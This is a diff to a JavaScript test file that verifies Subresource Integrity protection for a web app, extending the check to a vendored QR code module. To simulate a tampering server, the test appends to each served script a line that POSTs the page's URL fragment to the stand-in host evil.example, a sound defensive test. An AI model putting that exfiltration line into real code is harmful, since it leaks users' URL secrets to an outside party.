@@ -10,8 +10,9 @@
 //    SHA256SUMS (scripts/build-hashes.mjs); a recording proxy that alters one served file
 //    (app.js, pkg/sotto.js or one byte of a wasm module) is reported, naming the file, with a
 //    non-zero exit.
-// 3. Subresource Integrity in the deployable page: a static host that changes app.js or
-//    pkg/sotto.js but not index.html gets its code refused by the browser itself.
+// 3. Subresource Integrity in the deployable page: a static host that changes app.js,
+//    pkg/sotto.js or the vendored QR code module (vendor/lean-qr-nano.js, imported by app.js,
+//    named by no <script src>) but not index.html gets its code refused by the browser itself.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
@@ -142,9 +143,10 @@ test('the same page from an origin ALLOWED_ORIGINS does not list is refused', as
   }
 });
 
-test('Subresource Integrity: the browser refuses app.js or pkg/sotto.js a server changed behind an unchanged page', async () => {
+test('Subresource Integrity: the browser refuses app.js, pkg/sotto.js or the vendored QR module a server changed behind an unchanged page', async () => {
   const html = readFileSync(path.join(splitDist, 'index.html'), 'utf8');
   assert.match(html, /<script type="importmap">\{"integrity":\{[^<]*"\.\/pkg\/sotto\.js":"sha384-/);
+  assert.match(html, /<script type="importmap">\{"integrity":\{[^<]*"\.\/vendor\/lean-qr-nano\.js":"sha384-/);
   assert.match(html, /<script type="module" src="app\.js" integrity="sha384-[A-Za-z0-9+/=]{64}"><\/script>/);
   // The app fills in the room link as soon as its modules run.
   const started = async (origin, label) => {
@@ -159,7 +161,7 @@ test('Subresource Integrity: the browser refuses app.js or pkg/sotto.js a server
   const control = await started(staticHost.origin, 'intact');
   assert.ok(control.ran, `the intact page runs: ${control.console.join('\n')}`);
   assert.deepEqual(control.console.filter((l) => /integrity|Content Security Policy/i.test(l)), []);
-  for (const file of ['pkg/sotto.js', 'app.js']) {
+  for (const file of ['pkg/sotto.js', 'app.js', 'vendor/lean-qr-nano.js']) {
     const altered = path.join(tmp, `sri-${path.basename(file)}`);
     cpSync(splitDist, altered, { recursive: true });
     writeFileSync(path.join(altered, file), `${readFileSync(path.join(altered, file), 'utf8')}\nfetch('https://evil.example/', { method: 'POST', body: location.hash });\n`);
